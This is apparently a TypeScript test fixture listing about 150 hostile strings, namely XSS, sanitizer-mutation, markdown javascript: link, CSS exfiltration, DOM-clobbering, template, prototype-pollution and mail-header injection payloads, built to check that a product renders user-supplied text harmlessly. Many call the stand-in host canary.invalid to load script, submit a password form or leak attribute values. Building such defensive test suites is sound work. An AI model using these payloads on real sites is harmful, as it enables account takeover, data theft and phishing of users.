/**
 * A hundred and fifty texts for threat row V-4 (script or beacon in shown content), to be put wherever the product shows
 * what others wrote: visitor text, names, page addresses and titles, lead fields, file names, document titles, answers of
 * the bot and of people; in the widget, the console, mails and exports.
 *
 * How a browser test sees that one has worked: it sets `window.__hostile` to true or calls `alert`; it asks the host
 * `canary.invalid` for something; it leaves a link that is not http(s), mailto or tel; or the page breaks.
 * Characters that an editor does not show are written as escapes. Some texts hold NUL or lone surrogates, which a database
 * or a JSON reader may refuse: refused is as good as shown harmlessly, a server error is not.
 */

const RUN = 'window.__hostile = true';

/** A one-pixel GIF, for handlers that need an image that loads. */
const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';

export const HOSTILE_PAYLOADS: readonly { name: string; text: string }[] = [
  // Script elements, also out of the contexts a template may put a text into.
  { name: 'script-inline', text: `<script>${RUN}</script>` },
  { name: 'script-remote', text: '<script src="https://canary.invalid/hostile.js"></script>' },
  { name: 'script-remote-without-scheme', text: '<ScRiPt/SrC=//canary.invalid/hostile.js></sCrIpT>' },
  { name: 'script-module-import', text: `<script type="module">import 'https://canary.invalid/hostile.mjs'; ${RUN}</script>` },
  {
    name: 'script-speculation-rules',
    text: '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://canary.invalid/next"]}]}</script>',
  },
  { name: 'script-nested-for-one-pass-filters', text: `<scr<script>ipt>${RUN}</scr</script>ipt>` },
  { name: 'script-never-closed', text: `<script>${RUN}; //` },
  { name: 'script-behind-attribute-quotes', text: `'"></a><script>${RUN}</script><a title="'` },
  { name: 'script-behind-title', text: `</title></head><script>${RUN}</script>` },
  { name: 'script-behind-textarea', text: `</textarea></input><script>${RUN}</script>` },
  { name: 'script-behind-inline-json', text: `"}]}</script><script>${RUN}</script>` },
  { name: 'script-behind-style', text: `}</style><script>${RUN}</script>` },
  { name: 'script-behind-comment', text: `--!><!-- --><script>${RUN}</script>` },
  { name: 'string-breaker-in-script', text: `\\';${RUN};//\\";${RUN};//\`;${RUN};//` },
  { name: 'line-separator-in-script-string', text: `a\u2028${RUN}\u2029//` },

  // Handlers.
  { name: 'img-onerror', text: `<img src="x" onerror="${RUN}">` },
  { name: 'img-onerror-unquoted', text: '<img src=x onerror=alert(1)>' },
  { name: 'img-onerror-slashes-for-blanks', text: '<img/src="x"/onerror=alert`1`//' },
  { name: 'img-onerror-line-breaks', text: '<IMG\nSRC\n=\nx\nOnErRoR\n=\nalert(1)\n>' },
  { name: 'img-onerror-form-feed', text: '<img\fsrc=x\fonerror=alert(1)\f>' },
  { name: 'img-onerror-entities', text: '<img src=x onerror="&#119;indow.__hostile&#x20;&equals;&#x20true">' },
  { name: 'img-onload-of-data', text: `<img src="${PIXEL}" onload="${RUN}">` },
  { name: 'img-broken-quotes', text: `<img """><script>${RUN}</script>" src=x onerror='${RUN}'>` },
  { name: 'image-alias-onerror', text: `<image src="x" onerror="${RUN}">` },
  { name: 'markup-as-entities', text: `&lt;img src=x onerror=&quot;${RUN}&quot;&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;` },
  { name: 'markup-as-percent-codes', text: '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E %253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E' },
  { name: 'markup-as-full-width', text: '\uff1cimg src=x onerror=alert(1)\uff1e \ufe64img src=x onerror=alert(1)\ufe65' },
  { name: 'markup-as-utf-7', text: '+ADw-script+AD4-alert(1)+ADw-/script+AD4- \u001b$B\u001b(J<img src=x onerror=alert(1)>' },
  { name: 'body-onload', text: `</p><body onload="${RUN}" onpageshow="${RUN}">` },
  { name: 'input-autofocus', text: `<input autofocus onfocus="${RUN}">` },
  { name: 'details-open-ontoggle', text: `<details open ontoggle="${RUN}"><summary>Your order</summary></details>` },
  { name: 'video-source-onerror', text: `<video><source onerror="${RUN}"></video><audio src="x" onerror="${RUN}"></audio>` },
  { name: 'style-onload', text: `<style onload="${RUN}"></style>` },
  { name: 'onanimationstart', text: `<style>@keyframes h{from{opacity:.9}}</style><b style="animation:h 1s" onanimationstart="${RUN}">.</b>` },
  { name: 'ontransitionend-hover-cover', text: `<b style="position:fixed;inset:0;z-index:2147483647" onpointerover="${RUN}" onpointermove="${RUN}">.</b>` },
  { name: 'unknown-element-onfocus', text: `<order-card tabindex="0" autofocus contenteditable onfocus="${RUN}">Order</order-card>` },
  { name: 'popover-onbeforetoggle', text: `<button popovertarget="pop">Show</button><p popover id="pop" onbeforetoggle="${RUN}">Terms</p>` },
  { name: 'content-visibility-handler', text: `<p style="display:block;content-visibility:auto" oncontentvisibilityautostatechange="${RUN}">Terms</p>` },
  { name: 'declarative-shadow-root', text: `<div><template shadowrootmode="open"><img src="x" onerror="${RUN}"></template></div>` },

  // Frames, forms and other elements that fetch or navigate.
  { name: 'iframe-srcdoc', text: `<iframe srcdoc="&lt;script&gt;parent.${RUN};top.${RUN}&lt;/script&gt;"></iframe>` },
  { name: 'iframe-javascript', text: `<iframe src="javascript:parent.${RUN}"></iframe>` },
  { name: 'iframe-remote', text: '<iframe src="https://canary.invalid/frame" width="0" height="0"></iframe>' },
  { name: 'object-and-embed', text: '<object data="https://canary.invalid/object"></object><embed src="https://canary.invalid/embed">' },
  { name: 'object-data-html', text: '<object data="data:text/html,<script>parent.alert(1)</script>" type="text/html"></object>' },
  { name: 'anchor-javascript', text: `<a href="javascript:${RUN}">Track my parcel</a>` },
  { name: 'anchor-javascript-entities', text: '<a href="&#x6A;ava&Tab;scr&NewLine;ipt&colon;alert&lpar;1&rpar;">Track my parcel</a>' },
  { name: 'anchor-ping', text: '<a href="https://shop.example/" ping="https://canary.invalid/ping">Shop</a>' },
  { name: 'form-with-password', text: '<form action="https://canary.invalid/sign-in"><input name="password" type="password"><button>Sign in</button></form>' },
  { name: 'button-formaction', text: `<form><button formaction="javascript:${RUN}">Send</button></form>` },
  { name: 'form-of-another-element', text: '<form id="f" action="https://canary.invalid/form"></form><button form="f" formtarget="_top">Continue</button>' },
  { name: 'meta-refresh', text: '<meta http-equiv="refresh" content="0;url=https://canary.invalid/refresh">' },
  { name: 'meta-refresh-data', text: '<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">' },
  { name: 'base-href', text: '<base href="https://canary.invalid/" target="_top"><a href="account">My account</a><img src="pixel.gif">' },
  { name: 'link-stylesheet', text: '<link rel="stylesheet" href="https://canary.invalid/hostile.css">' },
  {
    name: 'link-hints',
    text: '<link rel="preload" as="image" href="https://canary.invalid/pre"><link rel="prefetch" href="//canary.invalid">',
  },
  { name: 'img-beacon', text: '<img src="https://canary.invalid/pixel.gif?c=html" alt="">' },
  {
    name: 'img-srcset-and-picture',
    text: '<picture><source srcset="//canary.invalid/a 1x, //canary.invalid/b 2x"><img srcset="https://canary.invalid/c 1w" sizes="1px"></picture>',
  },
  {
    name: 'media-poster-and-track',
    text: '<video poster="https://canary.invalid/poster" autoplay><track default src="https://canary.invalid/track.vtt"></video>',
  },
  { name: 'legacy-background', text: '<table background="https://canary.invalid/table"><tr><td background="https://canary.invalid/cell">1</td></tr></table>' },
  { name: 'input-type-image', text: '<input type="image" src="https://canary.invalid/submit" alt="Pay now">' },

  // Style sheets.
  { name: 'style-url-in-attribute', text: '<p style="background:url(https://canary.invalid/css)">Paid</p>' },
  {
    name: 'style-url-with-escapes',
    text: '<p style="background:\\75\\72\\6c(//canary.invalid/escaped);list-style:u\\rl(\'https://canary.invalid/list\')">Paid</p>',
  },
  { name: 'style-import', text: '<style>@import "https://canary.invalid/import.css"; @import url(//canary.invalid/second.css);</style>' },
  {
    name: 'style-reads-attribute',
    text: '<style>input[value^="a"]{background:url(https://canary.invalid/?v=a)} a[href*="token"]{background:url(https://canary.invalid/?v=t)}</style>',
  },
  { name: 'style-font-face', text: '<style>@font-face{font-family:h;src:url(https://canary.invalid/font)} *{font-family:h}</style>Aa' },
  {
    name: 'style-image-set-and-cursor',
    text: '<p style="background:image-set(\'https://canary.invalid/set\' 1x);cursor:url(https://canary.invalid/cursor),auto">Hover</p>',
  },
  {
    name: 'style-expression-and-binding',
    text: '<p style="width:expression(alert(1));behavior:url(https://canary.invalid/h.htc);-moz-binding:url(//canary.invalid/x#h)">1</p>',
  },
  { name: 'style-value-for-a-theme', text: 'red;}*{background:url(https://canary.invalid/theme)}/*' },

  // SVG and MathML.
  { name: 'svg-onload', text: `<svg onload="${RUN}"></svg>` },
  { name: 'svg-onload-slashes', text: '<svg/onload=alert(1)//' },
  { name: 'svg-script', text: `<svg><script>${RUN}</script></svg>` },
  { name: 'svg-script-href-and-entities', text: '<svg><script href="https://canary.invalid/svg.js"/><script>&#97;lert(1)</script></svg>' },
  { name: 'svg-animate-onbegin', text: `<svg><animate attributeName="x" dur="1s" onbegin="${RUN}"/></svg>` },
  { name: 'svg-animate-changes-href', text: `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">Receipt</text></a></svg>` },
  {
    name: 'svg-set-to-javascript',
    text: `<svg><a xlink:href="#"><set attributeName="xlink:href" to="javascript:${RUN}"/><text y="20">Receipt</text></a></svg>`,
  },
  {
    name: 'svg-use-data',
    text: "<svg><use href=\"data:image/svg+xml,<svg id='h' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#h\"/></svg>",
  },
  {
    name: 'svg-image-beacon',
    text: '<svg><image href="https://canary.invalid/svg-image"/><filter id="f"><feImage href="https://canary.invalid/filter"/></filter></svg>',
  },
  {
    name: 'svg-foreign-object',
    text: `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${RUN}"/></body></foreignObject></svg>`,
  },
  {
    name: 'svg-document-with-entity',
    text: '<!DOCTYPE svg [<!ENTITY h SYSTEM "https://canary.invalid/entity">]><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">&h;</svg>',
  },
  { name: 'mathml-href', text: `<math href="javascript:${RUN}"><mi>x</mi></math>` },
  { name: 'mathml-maction', text: `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x<mtext>y</mtext></maction></math>` },
  { name: 'mathml-annotation', text: `<math><annotation-xml encoding="text/html"><img src="x" onerror="${RUN}"></annotation-xml></math>` },

  // Markup that changes its meaning when written out and read again.
  { name: 'mutation-noscript-attribute', text: `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">` },
  { name: 'mutation-math-style', text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='${RUN}'&gt;">` },
  { name: 'mutation-svg-style-id', text: `<svg></p><style><a id="</style><img src=x onerror='${RUN}'>">` },
  { name: 'mutation-form-in-form', text: `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">` },
  { name: 'mutation-svg-title-comment', text: `<svg><title><!--</title><img src=x onerror="${RUN}">--></title></svg>` },
  { name: 'mutation-select-template', text: `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror='${RUN}'>">` },
  { name: 'mutation-backtick-attribute', text: '<img src="x" alt="``onerror=alert(1)"><p title="`><script>alert(1)</script>`">' },
  {
    name: 'mutation-xmp-and-plaintext',
    text: `<xmp><p title="</xmp><img src=x onerror='${RUN}'>"></xmp><listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
  },
  { name: 'mutation-processing-instruction', text: `<?xml-stylesheet ><img src=x onerror="${RUN}"> ?><![CDATA[ ><img src=x onerror="${RUN}">]]>` },
  { name: 'mutation-deep-nesting', text: `${'<b>'.repeat(520)}<svg><style><img title="</style><img src=x onerror='${RUN}'>">` },

  // Markdown.
  { name: 'markdown-javascript-link', text: `[Track my parcel](javascript:${RUN.replaceAll(' ', '')})` },
  { name: 'markdown-javascript-link-angle', text: `[Track my parcel](<javascript:${RUN}>)` },
  { name: 'markdown-javascript-tab', text: '[Track](java\tscript:alert(1)) and [again](<java\tscript:alert(1)>)' },
  { name: 'markdown-javascript-line-break', text: '[Track](java\nscript:alert(1)) and [again](<java\r\nscript:alert(1)>)' },
  { name: 'markdown-javascript-mixed-case', text: '[Track](JaVaScRiPt:alert(1)) [Track](JAVASCRIPT:alert(1))' },
  { name: 'markdown-javascript-entities', text: '[Track](java&Tab;script&colon;alert(1)) [Track](&#106;avascript&#58;alert(1))' },
  { name: 'markdown-javascript-percent', text: '[Track](javascript%3Aalert(1)) [Track](%6Aavascript:alert(1)) [Track](javascript://shop.example/%0Aalert(1))' },
  { name: 'markdown-javascript-leading-control', text: '[Track](\u0001javascript:alert(1)) [Track](<\u0000\u001f javascript:alert(1)>)' },
  { name: 'markdown-javascript-zero-width', text: '[Track](\u200bjavascript:alert(1)) [Track](java\u00adscript:alert(1)) [Track](\ufeffjavascript:alert(1))' },
  { name: 'markdown-javascript-escapes', text: '[Track](javascript\\:alert\\(1\\)) [Track](\\javascript:alert(1))' },
  { name: 'markdown-data-link', text: '[Invoice](data:text/html,<script>alert(1)</script>)' },
  { name: 'markdown-data-base64-link', text: '[Invoice](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19ob3N0aWxlID0gdHJ1ZTwvc2NyaXB0Pg==)' },
  { name: 'markdown-vbscript-link', text: '[Open](vbscript:alert(1)) [Open](VBSCRIPT:window.__hostile=true)' },
  { name: 'markdown-file-link', text: '[Price list](file://canary.invalid/share/prices.txt) [Price list](\\\\canary.invalid\\share\\prices.txt)' },
  {
    name: 'markdown-blob-and-filesystem-link',
    text: '[Open](blob:https://canary.invalid/0c0ffee0) [Open](filesystem:https://canary.invalid/temporary/h.html)',
  },
  {
    name: 'markdown-app-scheme-links',
    text: '[Open](intent://canary.invalid/#Intent;end) [Open](view-source:javascript:alert(1)) [Open](jar:https://canary.invalid/h.jar!/)',
  },
  { name: 'markdown-image-beacon', text: '![Your parcel](https://canary.invalid/pixel.png?c=markdown)' },
  { name: 'markdown-image-without-scheme', text: '![](//canary.invalid/pixel) ![](\\\\canary.invalid\\pixel) ![](https:canary.invalid/pixel)' },
  { name: 'markdown-image-javascript', text: '![Parcel](javascript:alert(1)) ![Parcel](data:image/svg+xml,<svg onload=alert(1)>)' },
  { name: 'markdown-image-title-breaks-out', text: `![Parcel](https://canary.invalid/i.png '"onerror="${RUN}"')` },
  { name: 'markdown-image-alt-breaks-out', text: `![x" onerror="${RUN}" y="](https://canary.invalid/i.png)` },
  { name: 'markdown-reference-link', text: '[Your label][label]\n\n[label]: javascript:alert(1)\n' },
  { name: 'markdown-reference-image', text: '![Your label][]\n\n[your label]: <https://canary.invalid/reference> "Label"\n' },
  {
    name: 'markdown-reference-named-proto',
    text: '[one][__proto__] [two][constructor] [toString]\n\n[__proto__]: javascript:alert(1)\n[constructor]: https://canary.invalid/c',
  },
  { name: 'markdown-footnote', text: 'As agreed.[^1]\n\n[^1]: ![x](https://canary.invalid/footnote) <img src=x onerror=alert(1)>' },
  { name: 'markdown-autolink-javascript', text: '<javascript:alert(1)> <JAVASCRIPT:window.__hostile=true> <data:text/html,alert(1)>' },
  { name: 'markdown-autolink-breaks-out', text: `<https://canary.invalid/"onmouseover="${RUN}"> https://canary.invalid/"onpointerover="alert(1)` },
  { name: 'markdown-mail-link-with-headers', text: '[Write us](mailto:help@shop.example?bcc=drop@canary.invalid&body=alert(1)) <drop@canary.invalid>' },
  {
    name: 'markdown-link-as-another-host',
    text: '[https://shop.example/](https://shop.example@canary.invalid/) [sh\u043ep.example](https://canary.invalid/\u2215shop.example)',
  },
  { name: 'markdown-label-holds-markup', text: `[<img src=x onerror="${RUN}">](https://shop.example/) [**<svg onload=alert(1)>**](https://shop.example/)` },
  { name: 'markdown-nested-brackets', text: '[a [b](javascript:alert(1)) c](https://shop.example/) [![x](https://canary.invalid/i)](javascript:alert(1))' },
  { name: 'markdown-unbalanced-brackets', text: '[[[[x]](javascript:alert(1)](((https://shop.example/)javascript:alert(1)))) ](<' },
  { name: 'markdown-code-fence-breaks-out', text: `\`\`\`html"><script>${RUN}</script>\n</code></pre><img src=x onerror="${RUN}">\n\`\`\`` },
  {
    name: 'markdown-diagram-and-formula-fences',
    text: '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]; click A href "javascript:alert(1)"\n```\n$\\href{javascript:alert(1)}{x}$',
  },
  { name: 'markdown-table-cells', text: `| Order | State |\n| --- | --- |\n| <img src=x onerror="${RUN}"> | [open](javascript:alert(1)) |` },

  // Names that shadow what scripts rely on.
  {
    name: 'clobber-document-members',
    text: '<img name="cookie"><img name="body"><form name="getElementById"></form><form name="querySelector"></form>Your order',
  },
  { name: 'clobber-config-global', text: '<a id="Netia"></a><a id="Netia" name="config" href="https://canary.invalid/hostile.js">Settings</a>' },
  {
    name: 'clobber-form-attributes',
    text: '<form id="x" onsubmit="alert(1)"><input name="attributes"><input name="parentNode"><input name="innerHTML" value="1"></form>',
  },
  {
    name: 'clobber-node-names',
    text: `<form id="parentElement"><input id="nodeName"><input id="childNodes"><output id="alert" onclick="${RUN}">1</output></form>`,
  },

  // What templates, spreadsheets of values and loose merging would carry out.
  { name: 'template-curly', text: `{{constructor.constructor('${RUN}')()}} {{7*7}} {{=<% %>=}}<%{ alert(1) }%>` },
  { name: 'template-dollar-and-hash', text: `\${${RUN}} #{alert(1)} *{alert(1)} @(alert(1)) %7B%7Balert(1)%7D%7D` },
  {
    name: 'template-server-tags',
    text: '<%= alert(1) %> <?php echo "alert(1)"; ?> {% include "https://canary.invalid/t" %} <!--#include virtual="//canary.invalid/ssi" -->',
  },
  { name: 'replacement-patterns', text: "$& $` $' $1 $$ $<name> %s %d %o %c %n {0} \\0 \\1 [object Object]" },
  {
    name: 'json-prototype',
    text: '{"__proto__":{"__hostile":true,"innerHTML":"<img src=x onerror=alert(1)>"},"constructor":{"prototype":{"__hostile":true}}}',
  },
  {
    name: 'json-virtual-element',
    text: '{"type":"img","props":{"src":"x","onerror":"alert(1)","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}},"__k":null}',
  },

  // Characters that are not seen, or that turn what is seen around.
  { name: 'bidi-override-never-closed', text: '\u202eexe.gpj\u202d \u2067\u2066 photo \u202bhttps://canary.invalid/\u202e/elpmaxe.pohs' },
  { name: 'bidi-in-link', text: '[https://shop.example/\u202e](https://canary.invalid/\u202egnp.eciovni) \u200f\u061c' },
  { name: 'zero-width-in-tags', text: '<\u200bimg src=x onerror=alert(1)> <i\u200dmg src=x onerror=alert(1)> <img src=x on\u2060error=alert(1)>' },
  {
    name: 'null-and-control-characters',
    text: '<scr\u0000ipt>alert(1)</scr\u0000ipt><img\u000bsrc=x\u0000 onerror\u0000=alert(1)>\u0007\u0008\u007f\u0085\u009b31m',
  },
  { name: 'lone-surrogates', text: '\ud800<img src=x onerror=alert(1)>\udc00 \udbff [x\udfff](java\ud83dscript:alert(1))' },
  { name: 'private-use-marks', text: '\ue0001\ue001\ue0009999999999999999999\ue001\ue000<img src=x onerror=alert(1)>\ue001\ue000\ue0001\ue001 \ue001\ue000' },
  { name: 'private-use-splits-scheme', text: '[Track](java\ue000script:alert(1)) [Track](\ue0001\ue001javascript:alert(1)) java\ue000\ue001script:alert(1)' },
  { name: 'ansi-escapes', text: '\u001b[2J\u001b[31mPaid\u001b[0m \u001b]8;;https://canary.invalid/\u0007open\u001b]8;;\u0007 \u001b]0;alert(1)\u0007' },
  {
    name: 'header-line-ends',
    text: 'Kim\r\nBcc: drop@canary.invalid\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n.\r\n%0d%0aBcc:drop@canary.invalid',
  },

  // Length and stacking.
  { name: 'very-long-word', text: 'Q'.repeat(1_900) },
  { name: 'very-long-address', text: `https://canary.invalid/${'a%20'.repeat(240)}?${'b='.repeat(240)}(${'('.repeat(240)}` },
  { name: 'stacked-combining-marks', text: `Z${'\u0301\u0322\u0489'.repeat(300)}algo ${'\ufdfd'.repeat(200)}` },
  { name: 'unfinished-markdown-repeated', text: `${'[](**_`'.repeat(120)}${'!['.repeat(120)}${'> '.repeat(120)}<img src=x onerror=alert(1)>` },
];
